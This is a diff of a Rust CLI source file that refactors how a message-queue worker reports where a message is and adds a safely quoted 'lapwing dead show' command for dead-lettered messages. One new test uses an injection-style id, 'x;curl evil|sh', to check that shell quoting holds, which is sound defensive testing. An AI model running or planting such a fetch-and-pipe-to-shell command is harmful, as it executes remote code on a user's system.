@@ -1,15 +1,13 @@
 //! `lapwing message`
 
-use std::{collections::BTreeMap, process::ExitCode};
+mod runs;
+
+use std::process::ExitCode;
 
 use clap::Args;
 use serde_json::Value;
 
-use super::{
-    Worker,
-    failures::{error, settlement},
-    number, query, second, short, text,
-};
+use super::{Worker, failures::error, number, query, second, short, text};
 use crate::cli::print::{self, Out};
 
 /// Say where a message is, and where it spent its time, as far as a running worker knows.
@@ -54,6 +52,9 @@ fn told(story: &Value, trace_url: &str) -> Vec<String> {
     let mut lines = print::folded(text(story, "id"), 0, LINES);
     for place in list(story, "places") {
         lines.extend(print::folded(&whereabouts(story, place), 2, LINES));
+        if text(place, "state") == "dead-lettered" {
+            lines.push(format!("    {}", look(story, place)));
+        }
     }
     if list(story, "places").is_empty() {
         let unknown = "This worker does not have it, and knows no ack and no failure of it. It is in a queue, \
@@ -66,7 +67,7 @@ fn told(story: &Value, trace_url: &str) -> Vec<String> {
         lines.extend(print::folded(&silent, 2, LINES));
     }
     lines.extend(earlier(story));
-    lines.extend(runs(story, trace_url));
+    lines.extend(runs::told(story, trace_url));
     lines.push(String::new());
     let (failures, acks) = (text(story, "failures_since"), text(story, "acks_since"));
     let reach = format!(
@@ -93,16 +94,12 @@ fn whereabouts(story: &Value, place: &Value) -> String {
     let due = second(text(place, "due_at"));
     let last = match text(place, "state") {
         "in-flight" => return in_flight(story, consumer),
-        "acked" => format!("acked at {at}: it is done"),
+        "handled" => format!("handled at {at}, and the ack follows"),
         "waiting" => format!("it waits{queue} for its next attempt at {due}, in any worker"),
         "due" => format!(
             "failed at {at}. Its next attempt was due at {due}. This worker has not had it since"
         ),
-        "dead-lettered" => format!(
-            "dead-lettered{queue} at {at} ({}). To look there: lapwing dead show {} --consumer {consumer}",
-            text(place, "reason"),
-            text(story, "id"),
-        ),
+        "dead-lettered" => format!("dead-lettered{queue} at {at} ({})", text(place, "reason")),
         "returned" => {
             format!("it went back to its queue at {at}. This worker has not had it since")
         }
@@ -110,10 +107,19 @@ fn whereabouts(story: &Value, place: &Value) -> String {
     };
     match place["may_be_acked"] == true {
         true => format!(
-            "{consumer}: {last}. It may have been acked since then: this worker has forgotten some acks."
+            "{consumer}: {last}. It may have been acked since then: this worker does not know."
         ),
         false => format!("{consumer}: {last}"),
     }
+}
+
+/// The command that shows the dead letter. People copy it, so it is on one line, however long that is.
+fn look(story: &Value, place: &Value) -> String {
+    let (id, consumer) = (text(story, "id"), text(place, "consumer"));
+    // What begins with a hyphen would be an option.
+    let end = if id.starts_with('-') { "-- " } else { "" };
+    let (id, consumer) = (print::quoted(id), print::quoted(consumer));
+    format!("lapwing dead show --consumer {consumer} {end}{id}")
 }
 
 fn in_flight(story: &Value, consumer: &str) -> String {
@@ -163,100 +169,6 @@ fn earlier(story: &Value) -> Vec<String> {
 
 fn run_of(outcome: &Value) -> (&str, u64) {
     (text(outcome, "consumer"), number(outcome, "attempt"))
-}
-
-/// The seconds that a message spent: at the broker before a run, in the worker, in its handler.
-#[derive(Clone, Copy, Default)]
-struct Spent {
-    broker: Option<f64>,
-    worker: f64,
-    handler: f64,
-}
-
-/// The runs in this worker, oldest first, with where the message spent its time.
-fn runs(story: &Value, trace_url: &str) -> Vec<String> {
-    let mut before: BTreeMap<&str, &Value> = BTreeMap::new();
-    let mut all = Spent::default();
-    let mut lines = Vec::new();
-    for outcome in list(story, "outcomes").iter().rev() {
-        let spent = spent(outcome, before.insert(text(outcome, "consumer"), outcome));
-        if let Some(broker) = spent.broker {
-            all.broker = Some(all.broker.unwrap_or(0.0) + broker);
-        }
-        all.worker += spent.worker;
-        all.handler += spent.handler;
-        let attempt = outcome["attempt"].to_string();
-        let at = second(text(outcome, "at"));
-        lines.push(row(&at, text(outcome, "consumer"), &attempt, &spent.told()));
-        let what = format!("{}, then {}", text(outcome, "kind"), settlement(outcome));
-        for part in [what, error(outcome)]
-            .iter()
-            .filter(|part| !part.is_empty())
-        {
-            lines.extend(print::folded(part, 2, LINES));
-        }
-        let trace = text(outcome, "trace_id");
-        if !trace.is_empty() {
-            lines.push(format!("  {}", link(trace, trace_url)));
-        }
-    }
-    if lines.is_empty() {
-        return lines;
-    }
-    let heads = ["AT BROKER", "IN WORKER", "IN HANDLER"].map(str::to_owned);
-    lines.insert(0, row("ENDED", "CONSUMER", "TRY", &heads));
-    lines.insert(0, String::new());
-    lines.push(row("in all", "", "", &all.told()));
-    lines
-}
-
-/// Where a message spent its time before the end of a run. `before` is the run before in this worker.
-fn spent(outcome: &Value, before: Option<&Value>) -> Spent {
-    let seconds = |of: &Value, name: &str| {
-        let time = humantime::parse_rfc3339(text(of, name)).ok()?;
-        let since = time.duration_since(std::time::UNIX_EPOCH).ok()?;
-        Some(since.as_secs_f64())
-    };
-    let handler = outcome["handling_seconds"].as_f64().unwrap_or(0.0);
-    // Several runs of one delivery: the worker itself waited between them.
-    let same = before.filter(|before| before["received_at"] == outcome["received_at"]);
-    let from = match same {
-        Some(before) => seconds(before, "at"),
-        None => seconds(outcome, "received_at"),
-    };
-    let worker = seconds(outcome, "at").zip(from);
-    Spent {
-        broker: match same {
-            Some(_) => None,
-            None => outcome["queued_seconds"].as_f64(),
-        },
-        worker: worker.map_or(0.0, |(ended, from)| (ended - from - handler).max(0.0)),
-        handler,
-    }
-}
-
-impl Spent {
-    fn told(self) -> [String; 3] {
-        [self.broker, Some(self.worker), Some(self.handler)].map(short)
-    }
-}
-
-fn row(
-    ended: &str,
-    consumer: &str,
-    attempt: &str,
-    [broker, worker, handler]: &[String; 3],
-) -> String {
-    let consumer = print::cut(consumer, 12);
-    format!("{ended:<20}  {consumer:<12}  {attempt:>3}  {broker:>9}  {worker:>9}  {handler:>10}")
-}
-
-/// The link to a trace, or its id.
-fn link(trace: &str, url: &str) -> String {
-    match url {
-        "" => format!("trace {trace}"),
-        url => url.replace("{trace_id}", trace),
-    }
 }
 
 fn list<'a>(value: &'a Value, name: &str) -> &'a [Value] {
@@ -324,9 +236,9 @@ mod tests {
     fn each_consumer_that_had_it_says_what_it_saw_last() {
         let cases = [
             (
-                "acked",
+                "handled",
                 json!({}),
-                "orders: acked at 2026-11-27T02:24:01Z: it is done",
+                "orders: handled at 2026-11-27T02:24:01Z, and the ack follows",
             ),
             (
                 "waiting",
@@ -337,13 +249,13 @@ mod tests {
                 "due",
                 json!({ "due_at": "2026-11-27T02:24:05Z", "may_be_acked": true }),
                 "orders: failed at 2026-11-27T02:24:01Z. Its next attempt was due at 2026-11-27T02:24:05Z. \
-                 This worker has not had it since. It may have been acked since then: this worker has forgotten",
+                 This worker has not had it since. It may have been acked since then: this worker does not know.",
             ),
             (
                 "dead-lettered",
                 json!({ "queue": "orders.dead", "reason": "max-attempts" }),
-                "orders: dead-lettered in orders.dead at 2026-11-27T02:24:01Z (max-attempts). To look there: \
-                 lapwing dead show order-554 --consumer orders",
+                "orders: dead-lettered in orders.dead at 2026-11-27T02:24:01Z (max-attempts) \
+                 lapwing dead show --consumer orders order-554",
             ),
             (
                 "returned",
@@ -354,6 +266,24 @@ mod tests {
         for (state, changes, wanted) in cases {
             let text = said(&story(json!({ "places": [place(state, changes)] })));
             assert!(text.contains(wanted), "{text}");
+        }
+    }
+
+    #[test]
+    fn the_command_for_a_dead_letter_can_be_copied_whatever_the_id_is() {
+        let dead = place(
+            "dead-lettered",
+            json!({ "queue": "orders.dead", "reason": "failed" }),
+        );
+        let long = "x".repeat(255);
+        for (id, wanted) in [
+            ("x;curl evil|sh", "'x;curl evil|sh'"),
+            ("--all", "-- '--all'"),
+            (&long, &long),
+        ] {
+            let lines = told(&story(json!({ "id": id, "places": [&dead] })), "");
+            let wanted = format!("    lapwing dead show --consumer orders {wanted}");
+            assert!(lines.contains(&wanted), "{lines:#?}");
         }
     }
 
@@ -378,45 +308,5 @@ mod tests {
             "{text}"
         );
         assert!(!text.contains("#2"), "this worker has it itself: {text}");
-    }
-
-    #[test]
-    fn the_time_is_split_between_broker_worker_and_handler() {
-        let run = |attempt, at: &str, received: &str, queued: Value| {
-            json!({
-                "consumer": "orders", "attempt": attempt, "at": at, "received_at": received, "kind": "failed",
-                "settlement": "retry", "retry_seconds": 1.0, "queued_seconds": queued, "handling_seconds": 2.0,
-                "trace_id": "4bf92f3577b34da6a3ce929d0e0e4736", "class": "http", "error": "503",
-            })
-        };
-        let received = "2026-11-27T02:24:00.000Z";
-        let outcomes = [
-            run(
-                3,
-                "2026-11-27T02:25:02.000Z",
-                "2026-11-27T02:25:00.000Z",
-                json!(50.0),
-            ),
-            run(2, "2026-11-27T02:24:06.500Z", received, json!(4.0)),
-            run(1, "2026-11-27T02:24:03.000Z", received, json!(4.0)),
-        ];
-        let lines = runs(
-            &story(json!({ "outcomes": outcomes })),
-            "https://t.example/{trace_id}",
-        );
-        assert_eq!(
-            lines[1..6],
-            [
-                "ENDED                 CONSUMER      TRY  AT BROKER  IN WORKER  IN HANDLER",
-                "2026-11-27T02:24:03Z  orders          1       4.0s       1.0s        2.0s",
-                "  failed, then retry in 1.0s",
-                "  http: 503",
-                "  https://t.example/4bf92f3577b34da6a3ce929d0e0e4736",
-            ]
-        );
-        let second = "2026-11-27T02:24:06Z  orders          2          -       1.5s        2.0s";
-        assert_eq!(lines[6], second);
-        let all = "in all                                         54s       2.5s        6.0s";
-        assert_eq!(lines.last().map(String::as_str), Some(all));
     }
 }
